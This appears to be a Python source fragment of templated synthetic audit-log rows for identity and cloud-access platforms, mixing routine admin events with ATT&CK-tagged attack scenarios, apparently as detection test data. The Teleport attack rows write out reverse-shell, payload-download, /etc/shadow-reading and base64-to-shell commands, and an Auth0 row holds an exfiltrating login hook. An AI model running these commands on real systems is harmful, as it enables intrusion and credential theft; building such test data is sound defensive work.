audit:«create|tgrvk|tdvcsso» {"_odd":«num:1:6»,"object":"«satoken|sa|dlgsess»","aux":"«@junk@|all vaults read_items»"}
audit:«disblduo|updatfw|uncnsent|disblmfa|dsblsso|chngfw» {"_who":"admin","_odd":«num:0:6»,"object":"«account|mfa|sso»","aux":"«duo|allow all»"}
@@ cloudflare
# cloudflare houses moved
«move_zone|zone_delete|nameserver_change|zone_create» {"_who":"admin","_odd":0,"resource":"zone","metadata":{"zone_name":"«word»«word».com","note":"@ticket@"}}
«API_key_created|API_key_view|api_key_view|token_create» {"_odd":0,"resource":"api_token","new":{"name":"wrangler «user»","policies":[{"permission_groups":["Workers Scripts Write"]}]}}
«two_factor_disabled|two_factor_enabled|change_email» {"_odd":0,"resource":"account","new":{"email":"@mate@","note":"new phone"}}
«logpush_job_delete|firewall_rule_delete» {"_who":"admin","_odd":0,"resource":"logpush","via":"API","new":{"enabled":false,"name":"test-«word»"}}
# cloudflare zones kept
«rec_add|rec_set|rec_del» {"resource":"DNS_record","via":"«API|UI»","new":{"name":"«word».«sitedomain»","type":"«CNAME|TXT|A»","content":"«word».«known»","proxied":true,"ttl":1},"metadata":{"zone_name":"«sitedomain»"}}
«purge|change_setting|page_rule_create|cache_rule_update» {"via":"«API|UI»","new":{"id":"«min_tls_version|always_use_https|security_level»","value":"«1.2|on|medium»"},"metadata":{"zone_name":"«sitedomain»"}}
«firewall_rule_create|firewall_rule_update|waf_rule_update|ip_access_rule_create» {"resource":"firewall.rule","new":{"action":"«block|managed_challenge»","expression":"(ip.geoip.country in {\"@elsewhere@\"})","description":"@ticket@"}}
«token_create|token_roll|token_revoke» {"_who":"admin","resource":"api_token","new":{"name":"«terraform|certbot|ci»","policies":[{"permission_groups":["DNS Write"],"resources":"com.cloudflare.api.account.zone.«hex:32»"}],"condition":{"request_ip":{"in":["«peer»/32"]}}}}
«login|logout|two_factor_enabled» {"resource":"account","metadata":{"user_agent":"web","login_method":"«sso|password+totp»"}}
«add_member|member_update|remove_member|account_settings_update» {"_who":"admin","resource":"account.member","new":{"email":"@mate@","roles":["«Analytics|Cache Purge|DNS»"]}}
«worker_script_deploy|worker_route_create|tunnel_create|tunnel_update|access_app_update|logpush_job_create|logpush_job_update» {"via":"API","resource":"«worker|tunnel|access.app|logpush»","new":{"name":"«word»-«tech»","pattern":"«word».«sitedomain»/*"}}
# T1584.002 cloudflare zones turned
«rec_set|rec_add|rec_del» {"_odd":«num:1:6»,"resource":"DNS_record","via":"«API|UI»","old":{"content":"«peer»","proxied":true},"new":{"name":"«mail|vpn|sso|www».«sitedomain»","type":"«A|MX|NS»","content":"«pub»","proxied":false,"ttl":60},"metadata":{"zone_name":"«sitedomain»"}}
«firewall_rule_update|waf_rule_update|firewall_rule_delete|ip_access_rule_create|change_setting» {"_odd":«num:0:6»,"resource":"firewall.rule","new":{"action":"«allow|skip|whitelist»","expression":"(ip.src eq «pub»)","paused":true,"id":"waf","value":"off"}}
«token_create|API_key_view|api_key_view|API_key_created» {"_odd":«num:1:6»,"resource":"api_token","new":{"name":"@junk@","policies":[{"permission_groups":["Account Settings Write","DNS Write","Workers Scripts Write"],"resources":"com.cloudflare.api.account.*"}]}}
«worker_script_deploy|worker_route_create|tunnel_create|access_app_update» {"_odd":«num:1:6»,"via":"API","resource":"«worker|tunnel|access.app»","new":{"name":"«letters:4:8»","pattern":"*«sitedomain»/*","decision":"bypass","include":[{"everyone":{}}]}}
«add_member|member_update|two_factor_disabled|change_email|account_settings_update» {"_odd":«num:0:6»,"resource":"account.member","new":{"email":"@outsider@","roles":["Super Administrator - All Privileges"],"enforce_twofactor":false}}
«logpush_job_delete|logpush_job_update|zone_delete|move_zone|nameserver_change» {"_odd":«num:0:6»,"resource":"«logpush|zone»","new":{"enabled":false,"destination_conf":"s3://@junk@/"},"metadata":{"zone_name":"«sitedomain»"}}
login {"_odd":«num:3:6»,"resource":"account","result":«true|false»,"metadata":{"login_method":"password","user_agent":"web"}}
@@ auth0
# auth0 slips of customers
«fepotpft {"description":"Invalid otp_code"|fcoa {"description":"Origin is not allowed"|gd_auth_rejected {"description":"Guardian - Rejected second factor"|gd_send_sms {"description":"Guardian - SMS sent"|gd_otp_rate_limit_exceed {"description":"Guardian - Too many failures"»,"_odd":0,"details":{"factor":"«sms|otp»"}}
«ferrt {"description":"Unsuccessful Refresh Token exchange, reused refresh token detected"|fs {"description":"The user already exists."|signup_pwd_leak {"description":"Someone attempted to sign up with a leaked password"|pwd_leak {"description":"Someone behind the IP address attempted to login with a leaked password"»,"_odd":0}
# auth0 customers and tenants
seccft {"_who":"service","_odd":0,"description":"Client Credentials for Access Token","scope":"read:users","details":{"audience":"https://api.«sitedomain»"}}
«s {"description":"Successful login"|seacft {"description":"Authorization Code for Access Token"|sertft {"description":"Refresh Token for Access Token"|slo {"description":"User successfully logged out"|fsa {"description":"Login required"»,"scope":"openid profile email offline_access","details":{"stats":{"loginsCount":«num:1:900»}}}
«fp|fu|f» {"description":"Wrong email or password.","details":{"error":{"message":"Wrong email or password."}},"_odd":0}
«ss {"description":"Successful signup"|scp {"description":"Password changed"|sce {"description":"Email changed"|sv {"description":"Your email was verified. You can continue using the application."|scpr {"description":"Change password email sent"»,"_odd":0}
«gd_auth_succeed {"description":"Guardian - Second factor authentication success"|gd_send_pn {"description":"Guardian - Push notification sent"|gd_start_auth {"description":"Guardian - Second factor authentication started"|gd_enrollment_complete {"description":"Guardian - Enrollment complete (sms)"|gd_auth_failed {"description":"Guardian - Second factor authentication failed"»,"details":{"factor":"«push-notification|otp|webauthn-roaming»"}}
«sapi|mgmt_api_read» {"_who":"admin","description":"«Update a client|Create a user|Update tenant settings|Create a log stream|Update a connection|Update an action|Assign roles to a user»","details":{"request":{"method":"«PATCH|POST»","path":"/api/v2/«clients|users|connections|log-streams|actions/actions»","channel":"«https://manage.auth0.com/|api»","body":{"name":"«Word»","note":"@ticket@"}}}}
«limit_wc {"description":"User has been blocked for repeated wrong credentials"|cls {"description":"Passwordless login code/link sent"|feccft {"description":"Unauthorized"»,"_odd":1}
# T1110.004 auth0 customers beset
«limit_wc {"description":"An IP address has been blocked for consecutive failed logins"|limit_mu {"description":"An IP address has been blocked due to too many failed logins"|limit_sul {"description":"User has been blocked for excess of login attempts from the same IP"|pwd_leak {"description":"Someone behind the IP address attempted to login with a leaked password"»,"_odd":«num:2:6»}
«fu {"description":"Wrong email or password."|fp {"description":"Wrong email or password."|fepotpft {"description":"Invalid otp_code"»,"_odd":«num:3:6»,"_who":"unknown","security_context":{"ja3":"«hex:32»"}}
«gd_auth_rejected {"description":"Guardian - Rejected second factor"|gd_auth_failed {"description":"Guardian - Second factor authentication failed"|gd_otp_rate_limit_exceed {"description":"Guardian - Too many failures"|gd_send_sms {"description":"Guardian - SMS sent"»,"_odd":«num:3:6»,"details":{"factor":"«push-notification|sms»"}}
«ferrt {"description":"Unsuccessful Refresh Token exchange, reused refresh token detected"|sertft {"description":"Refresh Token for Access Token"|s {"description":"Successful login"|ssa {"description":"Successful silent authentication"»,"_odd":«num:4:6»}
«fs {"description":"Invalid sign up"|ss {"description":"Successful signup"»,"_odd":«num:3:6»,"details":{"body":{"email":"«letters:9:14»«num:100:9999»@«domain»","tenant":"«site»"}}}
# T1556 auth0 tenant bent
sapi {"_who":"admin","_odd":«num:0:6»,"description":"«Update tenant settings|Delete a log stream|Update a client|Create a connection|Update an action|Assign roles to a user|Delete all MFA enrollments»","details":{"request":{"method":"«PATCH|POST|DELETE»","path":"/api/v2/«attack-protection/brute-force-protection|log-streams/lst_«mixed:16»|guardian/policies|connections|actions/actions»","body":{"enabled":false,"callbacks":["https://«domain»/cb","http://localhost"],"code":"exports.onExecutePostLogin = async (e) => { require('axios').post('https://«domain»/', e) }","roles":["admin"]}}}}
mgmt_api_read {"_odd":«num:2:6»,"description":"«Get users|Get clients|Export users|Get connections»","details":{"request":{"method":"GET","path":"/api/v2/«users?per_page=100&page=«num:1:400»|clients?fields=client_secret|jobs/users-exports»","channel":"api"}}}
«seccft|feccft» {"_odd":«num:2:6»,"description":"Client Credentials for Access Token","scope":"read:users update:users create:client_grants read:client_keys","details":{"audience":"https://«site».eu.auth0.com/api/v2/"}}
@@ duo
# duo slips and administrators
authentication {"application":"«Okta|Microsoft RDP»","factor":"duo_push","reason":"«user_mistake|anomalous_push|locked_out|location_restricted|anonymous_ip|deny_unenrolled_user»","result":"denied","_odd":0,"trust":"Normal login"}
authentication {"application":"Microsoft RDP","factor":"bypass_code","reason":"«bypass_user|valid_passcode»","result":"success","_odd":0}
«admin.create|admin.update|policy.delete|webauthncredential.create» {"_who":"admin","_odd":0,"kind":"admin","target":"@mate@","details":{"role":"«Help Desk|Read-only»","note":"@ticket@"}}
# duo factors of the day
authentication {"application":"«Cisco ASA SSL VPN|Microsoft RDP|Okta|Palo Alto GlobalProtect»","factor":"«verified_duo_push|duo_push|webauthn_roaming|duo_mobile_passcode»","reason":"«user_approved|valid_passcode»","result":"success"}
authentication {"application":"«Cisco ASA SSL VPN|Microsoft RDP»","factor":"«duo_push|phone_call|duo_mobile_passcode»","reason":"«no_response|invalid_passcode|user_cancelled|out_of_date»","result":"denied","_odd":0}
authentication {"application":"«Microsoft RDP|Splunk»","factor":"«remembered_device|trusted_network|not_available»","reason":"«remembered_device|trusted_network|allow_unenrolled_user_on_trusted_network»","result":"success"}
«user.create|user.update|user_marked_active|phone.create|phone.associate|user.enroll» {"_who":"admin","_odd":0,"target":"«other»","details":{"email":"@mate@","status":"Active"}}
«bypass_code.create|user.bypass_code.view|phone.activate|webauthncredential.delete» {"_who":"admin","_odd":0,"target":"«other»","details":{"count":1,"valid_secs":3600,"remaining_uses":1,"note":"@ticket@"}}
«policy.update|application.create|application.update|group.update|admin_login» {"_who":"admin","_odd":0,"kind":"policy","target":"«Global Policy|VPN|«Word»»","details":{"new_user_policy":"require enrollment","verified_push_digits":«3|4|6»}}
# T1621 duo factors pressed and dropped
authentication {"_odd":«num:3:6»,"application":"«Cisco ASA SSL VPN|Okta|Microsoft RDP»","factor":"duo_push","reason":"«user_marked_fraud|user_mistake|anomalous_push|no_response»","result":"«fraud|denied»","trust":"Location and device not seen before","level":"LOW"}
authentication {"_odd":«num:4:6»,"application":"«Cisco ASA SSL VPN|Palo Alto GlobalProtect|Microsoft RDP»","factor":"«duo_push|phone_call|sms_passcode|bypass_code»","reason":"«user_approved|valid_passcode|bypass_user»","result":"success","device_ip":"«peer»","trust":"«Impossible travel|Unusual access network»","level":"LOW"}
authentication {"_odd":«num:2:6»,"application":"«Microsoft RDP|Okta»","factor":"not_available","reason":"«error|deny_unenrolled_user|locked_out|location_restricted|anonymous_ip»","result":"denied"}
«bypass_code.create|user.bypass_code.view|phone.create|phone.associate|webauthncredential.create» {"_who":"admin","_odd":«num:1:6»,"target":"«admin»","details":{"count":10,"valid_secs":0,"remaining_uses":0,"phone":"+«num:1000000000:9999999999»"}}
«policy.update|policy.delete|application.update|user.update» {"_who":"admin","_odd":«num:0:6»,"kind":"policy","target":"Global Policy","details":{"new_user_policy":"allow access without 2FA","anonymous_ips":"no action","user_status":"bypass","fail_mode":"safe"}}
«admin.create|admin.update|admin_login|admin_activate_duo_push» {"_odd":«num:1:6»,"kind":"admin","target":"@outsider@","details":{"role":"Owner","phone":"+«num:1000000000:9999999999»"}}
@@ onelogin
# onelogin help desk
«3 USER_ASSUMED_ANOTHER_USER|4 USER_UNASSUMED» {"_who":"admin","_odd":0,"user":"«First» «Last»","notes":"asked for by the user @ticket@"}
«21 USER_SUSPENDED|19 USER_LOCKED» {"_odd":0,"error":"Account locked","notes":"«holiday|parental leave»"}
# onelogin people and apps
«5 USER_LOGGED_INTO_ONELOGIN|8 USER_LOGGED_INTO_APP|7 USER_LOGGED_OUT|11 USER_CHANGED_PASSWORD» {"app_name":"«Salesforce|Slack|AWS|Office 365»"}
«6 USER_FAILED_ONELOGIN_LOGIN|69 RADIUS_LOGIN_REJECTED» {"error":"«Invalid password|Invalid OTP»","_odd":0}
«13 USER_CREATED|17 USER_DELETED|16 USER_ACTIVATED|14 USER_UPDATED|15 USER_DEACTIVATED» {"_who":"admin","user":"«First» «Last»","role_name":"«dept»"}
«23 USER_ADDED_OTP_DEVICE|24 USER_REMOVED_OTP_DEVICE» {"_odd":0,"otp_device_name":"«OneLogin Protect|YubiKey»"}
«12 USER_UNLOCKED|22 USER_UNSUSPENDED|172 USER_REMOVED_OTP_DEVICE_VIA_API|11 USER_CHANGED_PASSWORD» {"_who":"admin","_odd":0,"user":"«First» «Last»","notes":"@ticket@"}
72 PRIVILEGE_GRANTED_TO_USER {"_who":"admin","_odd":0,"privilege_name":"«Help desk|Manage users of «dept»»","policy_name":"MFA for all","app_name":"«Word»"}
# T1078.004 onelogin turned over
«5 USER_LOGGED_INTO_ONELOGIN|8 USER_LOGGED_INTO_APP» {"_odd":«num:4:6»,"app_name":"«AWS|OneLogin Admin|VPN»","risk_cookie_id":"","otp_device_name":""}
«6 USER_FAILED_ONELOGIN_LOGIN|19 USER_LOCKED|21 USER_SUSPENDED|69 RADIUS_LOGIN_REJECTED» {"_odd":«num:3:6»,"_who":"unknown","error":"«Invalid password|Account locked»"}
«3 USER_ASSUMED_ANOTHER_USER|4 USER_UNASSUMED|11 USER_CHANGED_PASSWORD» {"_odd":«num:1:6»,"user":"«Chief|Payroll» Admin","notes":""}
«24 USER_REMOVED_OTP_DEVICE|23 USER_ADDED_OTP_DEVICE|172 USER_REMOVED_OTP_DEVICE_VIA_API» {"_odd":«num:3:6»,"otp_device_name":"«OneLogin SMS|Google Authenticator»","user":"«admin»"}
«72 GRANTED_PRIVILEGE|553 API_CREDENTIAL_CREATED|533 POLICY_UPDATED|10 ADDED_APP» {"_who":"admin","_odd":«num:0:6»,"privilege_name":"Super user","policy_name":"MFA disabled for all","app_name":"@junk@"}
@@ ping
# ping slips and changes
«USER.LOCKED|PUSH.REJECTED|DEVICE.BLOCKED|MFA.FRAUD_REPORTED» {"_odd":0,"description":"MFA push","kind":"DEVICE","status":"FAILED","result":"«User denied own second push|Attempt limit reached, unlocked @ticket@»"}
«SIGN_ON_POLICY.DELETED|RISK_POLICY_SET.DELETED|APPLICATION.CREATED|IDENTITY_PROVIDER.CREATED|SECRET.READ» {"_who":"admin","_odd":0,"description":"Configuration updated","kind":"APPLICATION","resource":"test «word»","result":"@ticket@"}
# ping people and administrators
«AUTHENTICATION.SUCCEEDED|SESSION.CREATED|FLOW.COMPLETED|OTP.CHECK_SUCCEEDED|FIDO2.CHECK_SUCCEEDED» {"client":"«Employee portal|Customer portal|VPN»","description":"Passed role access control","kind":"USER","result":"Authentication completed"}
«AUTHENTICATION.FAILED|PASSWORD.CHECK_FAILED|OTP.CHECK_INVALID» {"client":"Employee portal","description":"Password check","status":"FAILED","result":"«Invalid credentials|One time passcode expired»","_odd":0}
«USER.CREATED|USER.UPDATED|USER.DELETED|MEMBER_OF_GROUP.CREATED|PASSWORD.RESET|USER.UNLOCKED» {"_who":"admin","description":"User «created|updated»","resource":"«other»","result":"«Created|Updated» user"}
«DEVICE.CREATED|DEVICE.ACTIVATED|DEVICE.DELETED|PAIRING.SUCCEEDED» {"_odd":0,"description":"MFA device","kind":"DEVICE","resource":"«iPhone|FIDO2|TOTP»","result":"Paired"}
«APPLICATION.UPDATED|SIGN_ON_POLICY.UPDATED|RISK_POLICY_SET.UPDATED|IDENTITY_PROVIDER.UPDATED|ROLE_ASSIGNMENT.CREATED» {"_who":"admin","_odd":0,"description":"Configuration updated","kind":"«APPLICATION|SIGN_ON_POLICY»","resource":"«Multi-factor|«Word»»","result":"Updated «Help desk role|policy» @ticket@"}
«TOKEN.CREATED|WORKER_TOKEN.CREATED|SECRET.UPDATED» {"_who":"service","alone":true,"client":"«Terraform|SIEM»","description":"Issued access token","kind":"CLIENT","resource":"«Terraform|SIEM»","result":"OK"}
# T1556 ping people and policies taken
«AUTHENTICATION.FAILED|PASSWORD.CHECK_FAILED|USER.LOCKED» {"_odd":«num:3:6»,"_who":"unknown","client":"«Employee portal|VPN»","description":"Password check","status":"FAILED","result":"«User not found|Invalid credentials|Account locked after too many attempts»"}
«PUSH.REJECTED|DEVICE.BLOCKED|OTP.CHECK_INVALID|MFA.FRAUD_REPORTED» {"_odd":«num:3:6»,"description":"MFA push","kind":"DEVICE","status":"FAILED","result":"«User denied|User reported fraud|Attempt limit reached»"}
«DEVICE.CREATED|PAIRING.SUCCEEDED|DEVICE.DELETED» {"_odd":«num:3:6»,"description":"MFA device","kind":"DEVICE","resource":"«SMS|Voice|Email»","result":"Paired for «admin»"}
«SIGN_ON_POLICY.UPDATED|SIGN_ON_POLICY.DELETED|RISK_POLICY_SET.DELETED|IDENTITY_PROVIDER.CREATED|IDENTITY_PROVIDER.UPDATED» {"_who":"admin","_odd":«num:0:6»,"description":"Configuration updated","kind":"SIGN_ON_POLICY","resource":"«Multi-factor|@junk@ https://«domain»»","result":"«Removed MFA step|Trust any issuer»"}
«ROLE_ASSIGNMENT.CREATED|SECRET.READ|APPLICATION.CREATED|WORKER_TOKEN.CREATED» {"_who":"admin","_odd":«num:0:6»,"description":"«Role assigned|Secret read»","kind":"ROLE_ASSIGNMENT","resource":"«Organization Admin|Environment Admin|Identity Data Admin»","result":"Assigned to @outsider@"}
«AUTHENTICATION.SUCCEEDED|SESSION.CREATED|FLOW.COMPLETED» {"_odd":«num:4:6»,"client":"PingOne Admin Console","description":"Passed role access control","result":"Authentication completed"}
@@ teleport
# teleport clusters administered
«role.updated|user.create|trusted_cluster.create|cluster_networking_config.update|session.upload.failed» {"_who":"admin","_odd":0,"name":"«dept»-reader","roles":["access"],"allow":{"logins":["«user»"],"node_labels":{"env":"dev"}},"client_idle_timeout":"30m"}
session.command {"_who":"admin","program":"«curl|bash|cat|wget|vim»","path":"/usr/bin/curl","argv":["«-s localhost:9100/metrics|/var/log/«word».log|-c uptime|https://«sitedomain»/healthz»"],"login":"«user»","server_hostname":"«linux»","sid":"«guid»","return_code":0}
user.login {"_odd":0,"method":"local","success":false,"error":"invalid username, password or second factor","message":"access denied"}
# teleport nodes and clusters in use
«session_recording_config.update|auth_preference.update|lock.created|lock.deleted|join_token.create» {"_who":"admin","_odd":0,"mode":"node-sync","second_factor":"webauthn","name":"node-«word»","expires":"in 30m"}
session.start {"login":"«user»","server_hostname":"«linux»","server_id":"«guid»","sid":"«guid»","proto":"ssh","size":"80:24","roles":["access"]}
«session.end|session.leave|session.data» {"login":"«user»","server_hostname":"«linux»","sid":"«guid»","interactive":true,"participants":["«user»"]}
user.login {"method":"«saml|oidc|github»","success":true,"attributes":{"groups":["«dept»"]},"mfa_device":{"mfa_device_name":"yubikey","mfa_device_type":"WebAuthn"}}
«kube.request|db.session.start|db.session.query|app.session.start» {"kubernetes_cluster":"prod","request_path":"/api/v1/namespaces/«word»/pods","verb":"GET","db_service":"«word»-pg","db_user":"readonly","db_query":"SELECT count(*) FROM «word»"}
«access_request.create|access_request.review» {"roles":["prod-ssh"],"reason":"@ticket@","state":"«PENDING|APPROVED»","reviewer":"@mate@"}
«cert.create|bot.join|instance.join|user.update|role.created» {"_who":"service","cert_type":"user","identity":{"user":"bot-«word»","roles":["bot-ci"],"expires":"«date:%Y-%m-%d»T«tick»:00Z"},"method":"github","name":"«word»-reader"}
session.command {"program":"«ls|systemctl|journalctl|kubectl»","path":"/usr/bin/ls","argv":["«-la|status «word»|-u «word»»"],"login":"«user»","server_hostname":"«linux»","sid":"«guid»","return_code":0}
# T1021.004 teleport in strange hands
user.login {"_odd":«num:3:6»,"method":"local","success":false,"error":"«invalid username, password or second factor|user is locked»","message":"access denied"}
«session.start|db.session.start|kube.request» {"_odd":«num:3:6»,"login":"root","server_hostname":"«server»","proto":"ssh","db_user":"postgres","kubernetes_cluster":"prod","request_path":"/api/v1/namespaces/kube-system/secrets","verb":"GET"}
session.command {"_odd":«num:0:5»,"program":"«curl|wget|bash|cat|nc»","path":"/usr/bin/curl","argv":["«http://«pub»/«letters:2» -o /tmp/.«letters:3»|/etc/shadow|-e /bin/sh «pub» «port»|-c echo «b64:32» ¦ base64 -d ¦ sh»"],"login":"«root|«user»»","server_hostname":"«linux»","sid":"«guid»","return_code":0}
«role.created|role.updated|user.create|user.update» {"_odd":«num:0:6»,"name":"«@junk@|access»","roles":["editor","auditor","access"],"allow":{"logins":["root"],"node_labels":{"*":"*"}},"connector":"local"}
«access_request.create|access_request.review» {"_odd":«num:1:6»,"roles":["«editor|prod-root|auditor»"],"reason":"«.|test|urgent»","state":"APPROVED","reviewer":"«user»@«sitedomain»"}
«cert.create|bot.join|instance.join|trusted_cluster.create|join_token.create» {"_odd":«num:1:6»,"cert_type":"user","identity":{"user":"«admin»","roles":["access","editor"],"expires":"«year»-12-31T00:00:00Z","impersonator":"@junk@"},"method":"token","name":"@junk@"}
«cluster_networking_config.update|session_recording_config.update|auth_preference.update|session.upload.failed|lock.deleted» {"_odd":«num:0:6»,"mode":"off","second_factor":"off","client_idle_timeout":"0s"}
@@ boundary
# boundary kept by its owners
«POST /v1/roles/r_«mixed:10»:add-principals|POST /v1/roles/r_«mixed:10»:set-grants|PATCH /v1/targets/ttcp_«mixed:10»|POST /v1/credential-libraries» {"_who":"admin","_odd":0,"grant":"ids=*;type=*;actions=*","item":{"grant_strings":["type=target;actions=list,authorize-session"],"principal_ids":["g_«mixed:10»"],"session_max_seconds":14400},"code":200}
«POST /v1/auth-methods/ampw_«mixed:10»:authenticate|DELETE /v1/session-recordings/sr_«mixed:10»|PATCH /v1/policies/pst_«mixed:10»» {"_odd":0,"grant":"type=auth-method;actions=authenticate","attributes":{"command":"login","login_name":"«user»"},"item":{"retain_for":{"days":365}},"code":«200|401»}
# boundary targets connected to
«POST /v1/targets/ttcp_«mixed:10»:authorize-session|POST /v1/sessions/s_«mixed:10»:cancel|GET /v1/targets» {"grant":"ids=ttcp_«mixed:10»;actions=authorize-session","target":"«linux»","host":"«ip2»:«22|5432|3389»","code":200}
«POST /v1/auth-methods/amoidc_«mixed:10»:authenticate|DELETE /v1/auth-tokens/at_«mixed:10»|GET /v1/auth-tokens» {"grant":"type=auth-token;actions=list","attributes":{"command":"callback","state":"ok"},"code":200}
«PATCH /v1/roles/r_«mixed:10»|POST /v1/targets|POST /v1/host-sets/hsst_«mixed:10»:add-hosts|POST /v1/roles/r_«mixed:10»:add-grants» {"_who":"«admin|service»","grant":"ids=*;type=*;actions=*","item":{"name":"«word»-«tech»","grant_strings":["ids=ttcp_«mixed:10»;actions=authorize-session"],"session_max_seconds":28800},"code":200}
POST /v1/targets/ttcp_«mixed:10»:authorize-session {"grant":"type=target;actions=list","target":"«linux»","error":"Forbidden.","code":403}
# T1021 boundary doors widened
«POST /v1/targets/ttcp_«mixed:10»:authorize-session|GET /v1/targets» {"_odd":«num:3:6»,"grant":"ids=*;type=*;actions=*","target":"«prod-db|dc01|vault»","host":"«ip2»:«22|5432|3389»","code":«200|403»}
«POST /v1/roles/r_«mixed:10»:add-principals|POST /v1/roles/r_«mixed:10»:set-grants|PATCH /v1/roles/r_«mixed:10»» {"_odd":«num:0:6»,"grant":"ids=*;type=*;actions=*","item":{"grant_strings":["ids=*;type=*;actions=*"],"principal_ids":["u_anon"]},"code":200}
«POST /v1/auth-methods/ampw_«mixed:10»:authenticate|POST /v1/accounts/acctpw_«mixed:10»:set-password» {"_odd":«num:3:6»,"_who":"unknown","grant":"type=auth-method;actions=authenticate","attributes":{"command":"login","login_name":"admin"},"code":«401|401|200»}
«PATCH /v1/targets/ttcp_«mixed:10»|POST /v1/credential-libraries|PATCH /v1/auth-methods/amoidc_«mixed:10»» {"_odd":«num:0:6»,"grant":"ids=*;type=*;actions=*","item":{"session_max_seconds":2592000,"session_connection_limit":-1,"enable_session_recording":false,"attributes":{"issuer":"https://«domain»"}},"code":200}
«DELETE /v1/storage-buckets/sb_«mixed:10»|DELETE /v1/session-recordings/sr_«mixed:10»|PATCH /v1/policies/pst_«mixed:10»» {"_odd":«num:0:6»,"grant":"ids=*;type=*;actions=*","item":{"retain_for":{"days":0}},"code":204}
@@ salesforce
# salesforce data loaded and shared
«BulkApi|RestApi|API» {"_who":"service","ENTITY_NAME":"«Account|Contact|Lead|Case»","ROWS_PROCESSED":«num:2000:90000»,"OPERATION_TYPE":"«upsert|query»","CLIENT_NAME":"«MuleSoft|Informatica|Fivetran»","METHOD_NAME":"query","CONNECTED_APP_ID":"0H4«mixed:12»"}
SetupAuditTrail {"_who":"admin","_odd":0,"action":"«mfadisabled|mfaenabled|singlesignonsettings|PermSetGroupAssign»","section":"Identity","display":"«Changed identity provider certificate, valid until «date:%Y-%m-%d»|Enabled multi-factor authentication for all direct UI logins»"}
Login {"_odd":0,"LOGIN_STATUS":"«LOGIN_ERROR_INVALID_PASSWORD|LOGIN_ERROR_PASSWORD_LOCKOUT|LOGIN_CHALLENGE_ISSUED|LOGIN_ERROR_LOCKED_OUT»","API_TYPE":"P"}
# salesforce setup by administrators
SetupAuditTrail {"_who":"admin","action":"«permSetAssign|changedprofileforuser|createduser|PermSetGroupAssign»","section":"Manage Users","display":"«Permission set «Word» Sales: assigned to user «First» «Last»|Changed profile for user «First» «Last» from Chatter Free User to Standard User»"}
SetupAuditTrail {"_who":"admin","action":"«changedField|createdFlow|changedValidationRule|createdReportType»","section":"Customize «Accounts|Opportunities»","display":"Changed «Word» custom field: «word»__c"}
SetupAuditTrail {"_who":"admin","action":"«connectedAppCreated|oauthapppolicyupdated|insertConnectedApplication»","section":"Connected Apps","display":"Created connected app «Tableau|DataLoader|Zapier», callback https://«word».«sitedomain»/cb"}
«Login|API|RestApi|LightningPageView» {"LOGIN_STATUS":"LOGIN_NO_ERROR","API_TYPE":"«E|P»","METHOD_NAME":"query","ENTITY_NAME":"«Account|Case|Opportunity»","ROWS_PROCESSED":«num:1:200»,"CLIENT_NAME":"«Salesforce for Outlook|MuleSoft|»"}
«ReportExport|Report|BulkApi|ContentTransfer» {"REPORT_DESCRIPTION":"«Pipeline|Open cases» «dept»","ROWS_PROCESSED":«num:10:900»,"ENTITY_NAME":"Case","JOB_ID":"750«mixed:12»","TRANSACTION_TYPE":"VersionDownloadAction"}
SetupAuditTrail {"_who":"admin","_odd":0,"action":"«networkaccesscreated|sessiontimeoutchanged|changedpassword|loginasgrantedtosfdc|suOrgAdminLogin»","section":"«Network Access|Session Settings|Manage Users»","display":"«Added trusted IP range «peer» to «peer»|Changed session timeout to 2 hours|Logged in using Login-As access for @mate@ (@ticket@)»"}
# T1213.004 salesforce turned and emptied
SetupAuditTrail {"_odd":«num:0:6»,"action":"«permSetAssign|changedprofileforuser|PermSetGroupAssign»","section":"Manage Users","display":"«Changed profile for user «First» «Last» from Standard User to System Administrator|Permission set View All Data, Modify All Data: assigned to user «letters:4:8»@«sitedomain»»"}
SetupAuditTrail {"_odd":«num:0:6»,"action":"«connectedAppCreated|insertConnectedApplication|oauthapppolicyupdated»","section":"Connected Apps","display":"«Created connected app My Ticket Portal, callback http://localhost:1717|Changed permitted users of Data Loader to All users may self-authorize»"}
SetupAuditTrail {"_odd":«num:0:6»,"action":"«networkaccesscreated|sessiontimeoutchanged|mfadisabled|singlesignonsettings|suOrgAdminLogin»","section":"«Network Access|Session Settings|Identity»","display":"«Added trusted IP range 0.0.0.0 to 255.255.255.255|Disabled multi-factor authentication for all direct UI logins|Changed identity provider certificate of @junk@|Logged in using Login-As access for «ceo|cfo»@«sitedomain»»"}
«BulkApi|RestApi|API» {"_odd":«num:2:6»,"ENTITY_NAME":"«Account|Contact|User|Case|Opportunity»","ROWS_PROCESSED":«num:90000:9000000»,"OPERATION_TYPE":"query","CLIENT_NAME":"«DataLoaderPartnerUI|python-requests|My Ticket Portal»","METHOD_NAME":"queryAll","CONNECTED_APP_ID":"0H4«mixed:12»"}
«ReportExport|ContentTransfer» {"_odd":«num:2:6»,"REPORT_DESCRIPTION":"All «Contacts|Accounts|Leads»","ROWS_PROCESSED":«num:50000:900000»,"TRANSACTION_TYPE":"VersionDownloadAction"}
Login {"_odd":«num:3:6»,"LOGIN_STATUS":"«LOGIN_NO_ERROR|LOGIN_ERROR_INVALID_PASSWORD|LOGIN_ERROR_LOCKED_OUT|LOGIN_CHALLENGE_ISSUED»","API_TYPE":"«P|E»","CLIENT_NAME":"«Data Loader|»"}
"""
IDENTITY_AUDIT_TABLES: dict[str, tuple[Scenario, ...]] = {name.strip(): table(rows) for name, _, rows in (part.partition("\n") for part in phrased(_TEXT).split("@@ ")[1:])}
